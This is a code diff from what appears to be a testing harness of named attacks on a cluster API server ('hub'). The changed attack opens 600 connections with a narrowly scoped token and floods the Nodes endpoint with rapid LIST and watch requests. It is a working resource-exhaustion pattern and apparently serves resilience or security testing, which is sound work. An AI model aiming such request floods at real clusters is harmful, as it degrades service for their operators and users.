@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import type { TLSSocket } from 'node:tls';
-import { type Attack, type ClusterSize, POWERLESS_TOKEN, type Target } from '../attack.ts';
+import { type Attack, type ClusterSize, NARROW_NODE, NARROW_TOKEN, type Target } from '../attack.ts';
 import { get, open, openMany, sleep } from '../hostile.ts';
 
 const LAST_MS = 6000;
@@ -14,14 +14,18 @@ const NEWEST = '/api/v1/nodes';
 export const hubQuestions: Attack = {
   name: 'hub-questions',
   victim: 'hub',
-  what: 'hub: 800 connections of a caller without rights, each with one LIST or watch after the other, about another Node each time',
+  what: 'hub: 600 connections of a caller that may see one Node, each with one LIST or watch of another Node after the other',
   run: async (target) => {
-    let asked = 0;
-    const next = (): string => {
-      const path = `/api/v1/nodes?${asked % 2 === 0 ? 'watch=1&' : ''}resourceVersion=0`;
-      return get(`${path}&fieldSelector=metadata.name%3Dx${asked++}`, [], POWERLESS_TOKEN);
+    const sockets = await openMany(target, 600);
+    const ask = (name: string, isWatch: boolean): string => {
+      const query = `resourceVersion=0&allowWatchBookmarks=true&fieldSelector=metadata.name%3D${name}`;
+      return get(`/api/v1/nodes?${isWatch ? 'watch=1&timeoutSeconds=1&' : ''}${query}`, [], NARROW_TOKEN);
     };
-    await askAgain(await openMany(target, 800), next);
+    const [first] = sockets;
+    first?.write(ask(NARROW_NODE, true));
+    await sleep(1000);
+    let asked = 1;
+    await askAgain(sockets.slice(1), () => ask(`node-${asked++}`, asked % 2 === 0));
   },
 };
 
